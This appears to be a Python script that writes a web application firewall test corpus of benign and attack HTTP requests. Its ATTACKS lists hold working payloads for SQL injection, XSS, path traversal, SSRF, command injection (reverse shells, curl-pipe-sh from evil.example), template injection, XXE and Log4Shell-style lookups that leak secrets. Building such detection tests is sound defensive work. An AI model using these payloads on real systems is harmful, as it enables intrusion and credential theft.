#!/usr/bin/env python3
"""Writes test/corpus/own/<class>/<attack|benign>/NNN.http from the requests listed below, and
engine-xss-NNN.http from those in engine_xss_requests.py: the one command that regenerates the
generated part of the own corpus.

Hand-written traffic, written once as data so it can be reviewed: realistic benign requests
(JSON APIs, forms, searches full of SQL-ish words, uploads, prose, code, markdown) and attacks
placed where real ones arrive (query, form, JSON at depth, cookies, headers, path, multipart, XML),
using payload shapes and encodings rather than copies of any test suite.
Files of other names under own/ (gen-*, prose-*, code-*, client-*) are kept by hand; this script
replaces only the files it names, so regenerating leaves them and `git status` clean. Append new
requests at the end of a list: the number in a file name is the request's position.
Usage: build_own.py [OUT_DIR]
"""
import json
import os
import re
import sys
import urllib.parse

import engine_cmdi_xss_requests
import engine_code_requests
import engine_small_requests
import engine_sqli_requests
import engine_xss_requests

HERE = os.path.dirname(os.path.abspath(__file__))
OUT_DIR = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "../own")
UA = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
q = urllib.parse.quote
qp = urllib.parse.quote_plus


def request(method, target, headers=(), body=b"", content_type=None):
    if isinstance(body, str):
        body = body.encode()
    lines = [f"{method} {target} HTTP/1.1", "Host: shop.example.com", f"User-Agent: {UA}",
             "Accept: */*"]
    lines += list(headers)
    if content_type:
        lines.append(f"Content-Type: {content_type}")
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def get(path, params=None, headers=()):
    target = path + ("?" + urllib.parse.urlencode(params, quote_via=q) if params else "")
    return request("GET", target, headers)


def form(path, fields, headers=()):
    return request("POST", path, headers, urllib.parse.urlencode(fields, quote_via=qp),
                   "application/x-www-form-urlencoded")


def js(path, obj, method="POST", headers=()):
    return request(method, path, headers, json.dumps(obj), "application/json")


def xml(path, text, headers=()):
    return request("POST", path, headers, text, "application/xml")


def multipart(path, fields, files=(), headers=()):
    b = "----waftestboundary7MA4YWxk"
    parts = []
    for name, value in fields:
        parts.append(f'--{b}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n')
    for name, filename, ctype, content in files:
        parts.append(f'--{b}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
                     f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
    parts.append(f"--{b}--\r\n")
    return request("POST", path, headers, "".join(parts), f"multipart/form-data; boundary={b}")


def cookie(value):
    return (f"Cookie: {value}",)


# ---------------------------------------------------------------------------------------------
BENIGN = {
    "api": [
        js("/api/v1/orders", {"customer": {"id": 4711, "name": "Anna O'Neil", "email": "anna.oneil@example.org"},
                              "items": [{"sku": "TSHIRT-RED-M", "qty": 2, "price": 19.99},
                                        {"sku": "MUG-01", "qty": 1, "price": 8.5}],
                              "note": "Please deliver after 6pm; ring twice & leave at the door",
                              "coupon": "SUMMER-20"}),
        js("/api/v1/users/42", {"display_name": "Bobby Tables", "bio": "I select my words carefully, union rep, "
                                "and I drop by the office on Fridays.", "website": "https://bobby.example.net"},
           method="PUT"),
        js("/api/v1/search", {"query": "select from union station to downtown", "filters": {"price": {"min": 10,
                              "max": 200}, "tags": ["new", "sale"]}, "sort": "-created_at", "page": 2}),
        js("/graphql", {"query": "query($id: ID!) { user(id: $id) { name orders(first: 10) { edges { node { id total } } } } }",
                        "variables": {"id": "VXNlcjo0Mg=="}}),
        js("/api/v1/events", {"type": "page_view", "url": "https://shop.example.com/products/42?ref=home",
                              "referrer": "https://www.google.com/", "ts": "2024-05-04T10:22:31.123Z",
                              "viewport": {"w": 1440, "h": 900}}),
        js("/api/v1/comments", {"post": 981, "body": "Great article! The part about `SELECT * FROM users WHERE id = ?` "
                                "and prepared statements finally made it click for me."}),
        js("/api/v1/comments", {"post": 982, "body": "To list files run `ls -la` and to see your id type `id`. "
                                "On Windows use `dir`."}),
        js("/api/v1/snippets", {"lang": "python", "code": "import time\nfor i in range(3):\n    time.sleep(1)\n"
                                "    print(f'{i}: done')\n"}),
        js("/api/v1/snippets", {"lang": "javascript", "code": "const add = (a, b) => a + b;\n"
                                "document.getElementById('total').textContent = add(1, 2);"}),
        js("/api/v1/settings", {"theme": "dark", "notifications": {"email": True, "sms": False},
                                "timezone": "Europe/Berlin", "locale": "de-DE"}, method="PATCH"),
        js("/api/v1/tickets", {"subject": "Order #12345 not delivered", "priority": "high",
                               "description": "Hi, my order from 2024-03-01 (ID 12345) still shows 'processing'. "
                               "Could you check? Thanks!\n-- Maria"}),
        js("/api/v1/templates", {"name": "welcome", "body": "Hello {{ first_name }}, welcome to {{ shop_name }}!"}),
        js("/api/v1/schema", {"$schema": "http://json-schema.org/draft-07/schema#", "$id": "https://example.com/order",
                              "type": "object", "properties": {"id": {"type": "integer"}}}),
        js("/api/v1/ldap-users", {"dn": "cn=John Smith,ou=People,dc=example,dc=com", "mail": "john@example.com"}),
        js("/api/v1/markdown", {"text": "# Release notes\n\n* Fixed `../config` path handling\n* Added **bold** and "
                                "_italic_\n\n| id | name |\n|----|------|\n| 1 | Ann |\n"}),
        js("/api/v1/forum/posts", {"title": "Why does my SQL return duplicates?", "body": "I wrote:\n\n"
                                   "    SELECT a.name, b.total FROM a JOIN b ON a.id = b.a_id ORDER BY b.total DESC\n\n"
                                   "and get each row twice. Any idea?"}),
        js("/api/v1/forum/posts", {"title": "XSS question", "body": "Is it safe to put user input in "
                                   "innerText? I read that <b>bold</b> tags are escaped then."}),
        js("/api/v1/webhooks", {"url": "https://hooks.example.com/services/T000/B000/XXXX", "events": ["order.created"]}),
        js("/api/v1/geo", {"lat": 52.5200, "lon": 13.4050, "accuracy": 12.5, "ip": "203.0.113.50"}),
        js("/api/v1/metrics", [{"name": "cpu", "value": 0.73}, {"name": "mem", "value": 1024}]),
        js("/api/v1/articles", {"title": "10 tips for better SQL", "body": "1. Use indexes.\n2. Avoid SELECT *.\n"
                                "3. Prefer JOIN over sub-selects where it helps.\n4. Don't DROP tables in production ;)"}),
        js("/api/v1/articles", {"title": "Shell basics", "body": "Pipes connect programs: `ps aux | grep nginx` lists "
                                "nginx processes. Chain with && to stop on errors."}),
        js("/api/v1/chat", {"from": "ann", "text": "lol that's what she said -- anyway, are we on for 5?"}),
        js("/api/v1/chat", {"from": "bob", "text": "can u check /var/www/html? the site is down again :("}),
        js("/api/v1/chat", {"from": "eve", "text": "template vars look like {{ name }} and ${name}, right?"}),
        js("/api/v1/notes", {"text": "TODO: replace <br> with <p> in the footer; check that the <a href> links work"}),
        js("/api/v1/kv", {"key": "feature.flags", "value": "{\"beta\": true, \"limit\": 50}"}),
        js("/api/v1/address", {"line1": "1 Union Square W", "line2": "Suite 100", "city": "New York", "zip": "10003"}),
        js("/api/v1/payments", {"amount": "1,234.56", "currency": "USD", "memo": "Invoice #2024-05 (50% deposit)"}),
        js("/api/v1/math", {"expr": "(2 + 3) * 4 = 20", "note": "x >= 5 or y <= 3"}),
        js("/api/v1/regex", {"pattern": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"}),
        js("/api/v1/cron", {"schedule": "*/5 * * * *", "command": "backup-db"}),
        js("/api/v1/i18n", {"de": "Wählen Sie eine Option", "fr": "Sélectionnez l'option", "es": "¿Dónde está?"}),
        js("/api/v1/ldap/search", {"base": "ou=People,dc=example,dc=com", "filter": "(uid=jdoe)"}),
        js("/api/v1/mongo", {"query": {"name": "alice", "age": {"min": 18}}, "sort": {"created": -1}}),
        request("GET", "/api/v1/products?ids=1,2,3&fields=name,price&limit=50&offset=100"),
        request("DELETE", "/api/v1/cart/items/981"),
        request("GET", "/api/v1/users/me", ("Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl",)),
        # Pasted code: a debounce helper whose handler-named variable and timers are JavaScript, not markup.
        js("/api/v1/snippets", {"lang": "javascript", "title": "debounce", "code": "function debounce(func, wait) {\n"
                                "  let timeout;\n  return function executedFunction(...args) {\n    const later = () => {\n"
                                "      clearTimeout(timeout);\n      func(...args);\n    };\n    clearTimeout(timeout);\n"
                                "    timeout = setTimeout(later, wait);\n  };\n}\n\n"
                                "const onInput = debounce(() => search(input.value), 300);\n"
                                "input.addEventListener('input', onInput);"}),
        js("/api/v1/snippets", {"lang": "javascript", "title": "one-liner", "code": "const debounce = (fn, ms) => { let t; "
                                "return (...a) => { clearTimeout(t); t = setTimeout(() => fn(...a), ms); }; };"}),
        # Backticks in chat and commit messages: Markdown code, not a MySQL identifier broken out of.
        js("/api/v1/comments", {"post": 5, "body": "Rename `user_id` to `account_id` and drop `legacy_flag`; then run "
                                "`make migrate`."}),
        js("/api/v1/chat", {"from": "lee", "text": "the column is `created_at` not `createdAt` -- fixed in #42"}),
        js("/api/v1/commits", {"message": "fix: quote `group` and `order` columns in the exporter (#311)"}),
        # A log shipper's inputs: a glob names no file to read.
        js("/api/v1/agents/7/config", {"inputs": [{"type": "log", "paths": ["/var/log/app/*.log"],
                                                   "exclude_files": ["\\.gz$"], "multiline": {"pattern": "^\\["}}]}),
        # Comparisons in a sentence, and SQL quoted inside a question (a bare statement stays flagged).
        js("/api/v1/chat", {"from": "kim", "text": "I think 3 < 5 and 10 > 7"}),
        js("/api/v1/forum/posts", {"title": "Query returns nothing", "body": "Why does SELECT * FROM users WHERE "
                                   "age > 21 return no rows when half of them are 30?"}),
    ],
    "forms": [
        form("/login", {"username": "alice", "password": "Tr0ub4dor&3!", "remember": "on"}),
        form("/login", {"username": "o'brien", "password": "p@ss'word\"123--"}),
        form("/signup", {"email": "mary-jane.o'neil+shop@example.co.uk", "name": "Mary-Jane O'Neil",
                         "password": "correct horse battery staple", "country": "IE"}),
        form("/contact", {"name": "Tom", "message": "Hello,\r\nI'd like to order 1 or 2 boxes; is that possible?\r\n"
                          "Also: do you ship to Canada?\r\nRegards, Tom"}),
        form("/contact", {"name": "Lee", "message": "Where can I select the size? The drop-down is empty & the "
                          "'update cart' button does nothing."}),
        form("/checkout", {"address": "12 Union Street\r\nApt. 3\r\nSpringfield", "zip": "62701",
                           "phone": "+1 (555) 010-9999", "notes": "Leave at the back door -- thanks!"}),
        form("/profile", {"about": "Developer. Likes cats & dogs; hates semicolons; uses | pipes in shell.",
                          "homepage": "http://localhost.example.com/~me"}),
        form("/review", {"rating": "5", "text": "10/10 would buy again!!! <3 Best mug <-> best price.", "nick": "joe_99"}),
        form("/search", {"q": "1=1 meaning in math"}),
        form("/newsletter", {"email": "news@example.com", "topics[]": "sales"}),
        form("/comment", {"text": "The union of sets A and B is written A ∪ B; select the elements in either set."}),
        form("/comment", {"text": "Don't forget: rm is dangerous, cat is harmless, and sleep is good for you."}),
        form("/comment", {"text": "Using ${HOME}/bin and $PATH works in bash; %APPDATA% on Windows."}),
        form("/comment", {"text": "Email me: first.last@example.com or call 555-0100 (ext. 42)."}),
        form("/password/reset", {"token": "a9f3c0d2e1b4", "new": "!QAZ2wsx#EDC", "confirm": "!QAZ2wsx#EDC"}),
        form("/admin/notes", {"note": "Meeting moved to 3:30pm. Agenda: budget, hiring; Q&A."}),
        form("/paste", {"syntax": "js", "content": "const debounce = (fn, delay = 250) => {\n  let id = null;\n"
                        "  return (...a) => { if (id) clearTimeout(id); id = setTimeout(() => { fn.apply(this, a); }, delay); };\n"
                        "};\ndocument.querySelector('#q').onkeyup = debounce(e => fetch('/api/search?q=' + "
                        "encodeURIComponent(e.target.value)));"}),
        form("/settings/logs", {"pattern": "/var/log/app/*.log", "retention_days": "14"}),
        form("/forum/reply", {"thread": "42", "body": "I think 3 < 5 and 10 > 7, so the list is sorted."}),
        # Outline numbers and catalog names in sentences (sqli knows "1.e(select" and a bare "information_schema.tables").
        form("/contracts/comment", {"clause": "1.e", "text": "Clause 1.e(ii) says the deposit is refundable; see 1.e(iii) "
                                    "for the exceptions."}),
        form("/blog/comment", {"post": "lodash-cve", "text": "merge() copied __proto__ keys onto Object.prototype, "
                               "so upgrade lodash to 4.17.21 and freeze the prototype in tests."}),
        form("/issues/new", {"title": "`SELECT` returns `NULL` when `a` or `b` is missing",
                             "body": "Using `COALESCE(a, b)` works around it."}),
        form("/wiki/save", {"page": "db", "text": "`orders` AS `o` JOIN `customers` AS `c` ON `o`.`customer_id` = `c`.`id`"}),
        form("/feedback", {"page": "/app/feed", "text": "1) like (heart) button does nothing 2) share opens twice :)"}),
        form("/runbooks/save", {"step": "4", "text": "if (retries > 3) page the on-call engineer; otherwise wait 5 minutes "
                                "and retry (the queue drains by itself)"}),
        form("/pricing/notes", {"note": "Starter | $9 per seat | $90 per year; Team | $15 per seat | $150 per year"}),
        form("/forum/reply", {"thread": "77", "body": "Query information_schema.tables to list them, or pg_catalog.pg_tables "
                              "on PostgreSQL; both are documented."}),
    ],
    "search": [
        get("/search", {"q": "select union jacket"}),
        get("/search", {"q": "how to drop a table in excel"}),
        get("/search", {"q": "order by price low to high"}),
        get("/search", {"q": "where is my order"}),
        get("/search", {"q": "delete account"}),
        get("/search", {"q": "insert coin"}),
        get("/search", {"q": "sleep mask"}),
        get("/search", {"q": "script writing book"}),
        get("/search", {"q": "alert bracelet for diabetes"}),
        get("/search", {"q": "javascript: the good parts"}),
        get("/search", {"q": "cat toys"}),
        get("/search", {"q": "rock & roll t-shirt"}),
        get("/search", {"q": "50% off"}),
        get("/search", {"q": "\"exact phrase\" -excluded"}),
        get("/search", {"q": "C++ templates"}),
        get("/search", {"q": "1 or 2 person tent"}),
        get("/search", {"q": "tom's diner"}),
        get("/search", {"q": "men's shoes size 10"}),
        get("/search", {"q": "<3 mug"}),
        get("/search", {"q": "passwd generator"}),
        get("/search", {"q": "etc"}),
        get("/search", {"q": "../"}),
        get("/search", {"q": "ping pong table"}),
        get("/search", {"q": "café crème"}),
        get("/search", {"q": "日本語 テスト"}),
        get("/search", {"q": "emoji 😀 party"}),
        get("/search", {"q": "sql injection tutorial"}),
        get("/search", {"q": "what is xss"}),
        get("/search", {"q": "O'Reilly books"}),
        get("/search", {"q": "it's a \"great\" deal"}),
        get("/search", {"q": "1+1"}),
        get("/search", {"q": "a/b testing"}),
        get("/search", {"q": "price < 50"}),
        get("/search", {"q": "c:\\users"}),
        get("/search", {"q": "#hashtag @mention"}),
        get("/search", {"q": "ls vs dir"}),
        get("/maps", {"ll": "52.52,13.405", "z": "12"}),
        get("/list", {"sort": "name asc, date desc", "filter": "status:open OR status:pending"}),
        get("/files", {"path": "docs/guides/install.md"}),
        get("/img", {"src": "https://images.example.com/a.png", "w": "200", "h": "100"}),
        get("/products", {"category": "shoes", "size": "42", "color": "black", "sort": "price_asc", "page": "3"}),
        get("/products", {"filter[brand]": "acme", "filter[price][gte]": "10", "filter[price][lte]": "50"}),
        get("/calendar", {"from": "2024-01-01", "to": "2024-12-31", "tz": "America/New_York"}),
        get("/redirect", {"next": "/account/orders?page=2"}),
        get("/redirect", {"url": "https://partner.example.com/landing?utm_source=newsletter"}),
        get("/download", {"file": "reports/2024/q1-summary.pdf"}),
        get("/download", {"file": "../shared/logo.png"}),
        get("/static/css/main.8f3a2c.css"),
        get("/static/js/vendor~main.4d2f.chunk.js"),
        get("/blog/2024/05/how-we-select-and-union-our-data"),
        get("/wiki/Special:Search", {"search": "C:\\Program Files\\App", "go": "Go"}),
        get("/share", {"text": "Check this out: https://youtu.be/dQw4w9WgXcQ?t=42"}),
        get("/track", {"event": "click", "el": "a#buy-now.btn.btn-primary", "x": "120", "y": "640"}),
    ],
    "headers": [
        get("/", headers=("Referer: https://www.google.com/search?q=select+union+jacket", "Accept-Language: en-US,en;q=0.9")),
        get("/", headers=cookie("session=eyJ1c2VyIjo0Mn0%3D; theme=dark; _ga=GA1.2.123456789.1700000000; consent=true")),
        get("/", headers=cookie("prefs=%7B%22lang%22%3A%22en%22%2C%22cur%22%3A%22EUR%22%7D; cart=3|17|42")),
        get("/", headers=("X-Forwarded-For: 203.0.113.7, 10.0.0.2", "X-Request-Id: 3f2a9c1e-7b4d-4e8f-9a1b-2c3d4e5f6a7b")),
        get("/", headers=("User-Agent: curl/8.5.0",)),
        get("/", headers=("User-Agent: python-requests/2.31.0",)),
        get("/", headers=("User-Agent: kube-probe/1.29",)),
        get("/", headers=("User-Agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 "
                          "(KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",)),
        get("/", headers=("If-None-Match: W/\"5e15153d-120f\"", "Cache-Control: max-age=0")),
        get("/", headers=("Origin: http://localhost:3000", "Referer: http://127.0.0.1:8080/dev")),
    ],
    "uploads": [
        multipart("/upload", [("title", "Holiday photos"), ("album", "2024 / Summer")],
                  [("file", "IMG_2024-07-01 beach (1).jpg", "image/jpeg", "\xff\xd8\xff\xe0JFIFbinarydata")]),
        multipart("/upload", [("description", "Quarterly report; select figures & union data")],
                  [("file", "q1 report.pdf", "application/pdf", "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj")]),
        multipart("/upload", [("comment", "CSV export")],
                  [("file", "users.csv", "text/csv", "id,name,email\n1,Ann,ann@example.com\n2,Bob O'Neil,bob@example.com\n")]),
        multipart("/upload", [],
                  [("file", "script.sh", "text/x-shellscript", "#!/bin/sh\nset -e\necho building\nmake -j2\n")]),
        multipart("/avatar", [("user", "42")], [("avatar", "me.png", "image/png", "\x89PNG\r\n\x1a\nIHDRdata")]),
        multipart("/import", [("format", "json")], [("file", "data.json", "application/json",
                                                     '{"items": [{"name": "a", "query": "select"}]}')]),
    ],
    "xml": [
        xml("/api/soap", '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
            "<soap:Body><GetPrice><Item>Union Jack Mug</Item><Qty>2</Qty></GetPrice></soap:Body></soap:Envelope>"),
        xml("/api/feed", '<?xml version="1.0"?><rss version="2.0"><channel><title>News &amp; Updates</title>'
            "<item><title>Select your plan</title><link>https://example.com/plans</link></item></channel></rss>"),
        xml("/api/orders.xml", '<?xml version="1.0"?><!DOCTYPE order><order id="77"><note>Drop off at door</note></order>'),
    ],
}

ATTACKS = {
    "sqli": [
        get("/products", {"id": "42' OR '1'='1' -- "}),
        get("/products", {"id": "42 AND 1=2 UNION SELECT username, password FROM users"}),
        get("/products", {"id": "-7 union all select 1,@@version,3#"}),
        get("/products", {"cat": "shoes' AND SLEEP(5)-- -"}),
        get("/products", {"sort": "price,(select case when (1=1) then 1 else 1*(select 1 from information_schema.tables) end)"}),
        form("/login", {"username": "admin'--", "password": "x"}),
        form("/login", {"username": "admin' or 1=1#", "password": "x"}),
        form("/login", {"username": "\" or \"\"=\"", "password": "\" or \"\"=\""}),
        js("/api/v1/search", {"query": "x' UNION SELECT table_name FROM information_schema.tables--", "page": 1}),
        js("/api/v1/users", {"filter": {"name": "bob'; DROP TABLE users; --"}}),
        js("/api/v1/report", {"range": {"from": "2024-01-01' AND (SELECT 1 FROM pg_sleep(5)) IS NULL--"}}),
        get("/", headers=cookie("session=abc123' AND extractvalue(1,concat(0x7e,(SELECT user())))-- ")),
        get("/", headers=("X-Forwarded-For: 1.2.3.4' OR SLEEP(3) OR '",)),
        get("/item/5%20union%20select%20null,null,null--"),
        get("/products", {"id": "1;WAITFOR DELAY '0:0:5'--"}),
        get("/products", {"id": "1/**/OR/**/1=1"}),
        request("GET", "/products?id=1%2527%2520or%25201%253D1--"),
        xml("/api/soap", '<?xml version="1.0"?><GetUser><Id>7 OR 1=1</Id></GetUser>'),
        multipart("/upload", [("title", "x' or '1'='1")], []),
    ],
    "xss": [
        get("/search", {"q": "<script>alert(document.cookie)</script>"}),
        get("/search", {"q": "\"><img src=x onerror=alert(1)>"}),
        get("/search", {"q": "<svg/onload=fetch('//evil.example/'+document.cookie)>"}),
        get("/search", {"q": "javascript:alert(1)"}),
        get("/search", {"q": "'-alert(1)-'"}),
        get("/search", {"q": "%3Cscript%3Ealert(1)%3C/script%3E"}),
        get("/search", {"q": "&lt;img src=1 onerror=alert(1)&gt;"}),
        form("/comment", {"text": "Nice post <iframe src=\"javascript:alert(1)\"></iframe>"}),
        form("/profile", {"homepage": "javascript:fetch('//evil.example?c='+document.cookie)"}),
        js("/api/v1/comments", {"post": 1, "body": "<details open ontoggle=alert(1)>"}),
        js("/api/v1/users/1", {"display_name": "<a href=\"jav&#x09;ascript:alert(1)\">me</a>"}),
        get("/", headers=cookie("lang=<script>alert(1)</script>")),
        get("/", headers=("Referer: https://x.example/\"><svg onload=alert(1)>",)),
        multipart("/upload", [], [("file", "<img src=x onerror=alert(1)>.png", "image/png", "x")]),
        xml("/api/feed", '<?xml version="1.0"?><item><title>&lt;script&gt;alert(1)&lt;/script&gt;</title></item>'),
        get("/search", {"q": "<body onpageshow=alert(1)>"}),
        get("/search", {"q": "\" autofocus onfocus=alert(1) x=\""}),
    ],
    "path_traversal": [
        get("/download", {"file": "../../../../etc/passwd"}),
        get("/download", {"file": "..\\..\\..\\windows\\win.ini"}),
        get("/download", {"file": "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"}),
        get("/download", {"file": "....//....//....//etc/passwd"}),
        get("/download", {"file": "/etc/passwd"}),
        get("/view", {"page": "../../../../proc/self/environ"}),
        get("/static/..%2f..%2f..%2fetc%2fpasswd"),
        js("/api/v1/export", {"template": "../../../../../etc/hosts"}),
        form("/render", {"tpl": "..%252f..%252f..%252fetc%252fpasswd"}),
        multipart("/upload", [], [("file", "../../../../var/www/html/shell.php", "text/plain", "x")]),
        get("/download", {"file": "../../../../../../home/app/.ssh/id_rsa"}),
        get("/", headers=cookie("template=../../../../etc/passwd")),
    ],
    "rfi_ssrf": [
        get("/fetch", {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}),
        get("/fetch", {"url": "http://metadata.google.internal/computeMetadata/v1/instance/"}),
        get("/fetch", {"url": "http://127.0.0.1:6379/"}),
        get("/fetch", {"url": "http://0x7f.0.0.1/admin"}),
        get("/fetch", {"url": "http://[::ffff:a9fe:a9fe]/"}),
        get("/fetch", {"url": "http://2130706433:8080/"}),
        get("/fetch", {"url": "gopher://127.0.0.1:11211/_stats"}),
        get("/fetch", {"url": "file:///etc/passwd"}),
        get("/page", {"include": "http://evil.example/shell.txt?"}),
        get("/page", {"include": "php://filter/convert.base64-encode/resource=config.php"}),
        js("/api/v1/webhooks", {"url": "http://10.0.0.12:2379/v2/keys"}),
        js("/api/v1/import", {"source": {"url": "dict://localhost:11211/stat"}}),
        form("/avatar/from-url", {"url": "http://[::1]/server-status"}),
    ],
    "command_injection": [
        get("/ping", {"host": "127.0.0.1; cat /etc/passwd"}),
        get("/ping", {"host": "8.8.8.8 && id"}),
        get("/ping", {"host": "8.8.8.8|nc 203.0.113.9 4444 -e /bin/sh"}),
        get("/ping", {"host": "$(curl http://evil.example/x.sh | sh)"}),
        get("/ping", {"host": "`whoami`"}),
        get("/ping", {"host": "x;c'a't${IFS}/etc/passwd"}),
        form("/tools/dns", {"domain": "example.com\nwget http://evil.example/bd -O /tmp/bd"}),
        js("/api/v1/convert", {"file": "a.png; rm -rf / #"}),
        js("/api/v1/backup", {"target": "db || bash -i >& /dev/tcp/203.0.113.9/443 0>&1"}),
        get("/", headers=("User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'",)),
        get("/", headers=cookie("theme=dark; lang=en|id")),
        multipart("/convert", [("opts", "-resize 50%; curl http://evil.example | sh")], []),
    ],
    "ssti": [
        get("/greet", {"name": "{{7*7}}"}),
        get("/greet", {"name": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}),
        get("/greet", {"name": "${T(java.lang.Runtime).getRuntime().exec('id')}"}),
        get("/greet", {"name": "<%= `id` %>"}),
        form("/preview", {"tpl": "{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}"}),
        js("/api/v1/templates", {"body": "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")"}),
        js("/api/v1/merge", {"__proto__": {"isAdmin": True}}),
        get("/api", {"__proto__[polluted]": "yes"}),
    ],
    "nosqli": [
        get("/login", {"user": "admin", "password[$ne]": "x"}),
        get("/users", {"name[$regex]": "^adm", "age[$gt]": ""}),
        js("/api/v1/login", {"username": "admin", "password": {"$ne": None}}),
        js("/api/v1/login", {"username": {"$gt": ""}, "password": {"$gt": ""}}),
        js("/api/v1/search", {"filter": {"$where": "sleep(5000) || true"}}),
        form("/login", {"user[$exists]": "true", "pass[$ne]": "1"}),
    ],
    "ldapi": [
        get("/directory", {"user": "*)(uid=*))(|(uid=*"}),
        form("/ldap/login", {"user": "admin)(&)", "pass": "x"}),
        get("/directory", {"cn": "x)(|(objectClass=*)"}),
        js("/api/v1/people", {"filter": "jdoe)(mail=*"}),
    ],
    "xxe": [
        xml("/api/import", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
        xml("/api/import", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]><r/>'),
        xml("/api/import", '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>'),
        form("/import", {"xml": '<!DOCTYPE a [<!ENTITY e SYSTEM "http://169.254.169.254/">]><a>&e;</a>'}),
        multipart("/upload", [], [("file", "feed.xml", "text/xml",
                                   '<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><f>&x;</f>')]),
    ],
    "jndi": [
        get("/", headers=("User-Agent: ${jndi:ldap://evil.example:1389/a}",)),
        get("/", headers=("X-Api-Version: ${${lower:j}${upper:n}di:rmi://evil.example/x}",)),
        get("/search", {"q": "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}"}),
        js("/api/v1/log", {"message": "${jndi:dns://evil.example/${env:AWS_SECRET_ACCESS_KEY}}"}),
        form("/login", {"username": "${${env:X:-j}ndi${env:X:-:}ldap://evil.example/z}", "password": "x"}),
        get("/", headers=cookie("id=${jndi:ldaps://evil.example/a}")),
    ],
    "crlf": [
        get("/redirect", {"next": "/home\r\nSet-Cookie: session=attacker"}),
        get("/lang", {"l": "en\r\nLocation: https://evil.example/"}),
        get("/redirect", {"next": "/x\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>owned</h1>"}),
        get("/a%0d%0aSet-Cookie:%20x=1"),
        get("/", headers=cookie("lang=en%0d%0aX-Injected:%201")),
    ],
    "scanner": [
        get("/", headers=("User-Agent: sqlmap/1.8#stable (https://sqlmap.org)",)),
        get("/admin", headers=("User-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",)),
        get("/", headers=("User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",)),
        get("/wp-login.php", headers=("User-Agent: WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",)),
        get("/.env", headers=("User-Agent: Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",)),
    ],
}


def write(out_dir, sets):
    """Writes each (label, {class dir: requests}, file name pattern) set after removing the files of that
    pattern it finds, so a request dropped from a list does not linger; other files stay."""
    n = 0
    for label, groups, pattern in sets:
        owned = re.compile(re.escape(pattern).replace(re.escape("{:03d}"), r"\d{3}") + "$")
        for cls, requests in groups.items():
            d = os.path.join(out_dir, cls, label)
            os.makedirs(d, exist_ok=True)
            for name in os.listdir(d):
                if owned.match(name):
                    os.remove(os.path.join(d, name))
            for i, raw in enumerate(requests, 1):
                with open(os.path.join(d, pattern.format(i)), "wb") as f:
                    f.write(raw)
                n += 1
    return n


def main():
    n = write(OUT_DIR, [
        ("benign", {"benign_" + group: reqs for group, reqs in BENIGN.items()}, "{:03d}.http"),
        ("attack", ATTACKS, "{:03d}.http"),
        ("benign", engine_xss_requests.BENIGN, "engine-xss-{:03d}.http"),
        ("attack", engine_xss_requests.ATTACKS, "engine-xss-{:03d}.http"),
        ("benign", engine_cmdi_xss_requests.BENIGN, "engine-cmdi-xss-{:03d}.http"),
        ("attack", engine_cmdi_xss_requests.ATTACKS, "engine-cmdi-xss-{:03d}.http"),
        ("benign", engine_sqli_requests.BENIGN, "engine-sqli-{:03d}.http"),
        ("attack", engine_sqli_requests.ATTACKS, "engine-sqli-{:03d}.http"),
        ("benign", engine_code_requests.BENIGN, "engine-code-{:03d}.http"),
        ("attack", engine_code_requests.ATTACKS, "engine-code-{:03d}.http"),
        ("benign", engine_small_requests.BENIGN, "engine-small-{:03d}.http"),
        ("attack", engine_small_requests.ATTACKS, "engine-small-{:03d}.http"),
    ])
    print(f"build_own: wrote {n} requests to {OUT_DIR}")


if __name__ == "__main__":
    main()
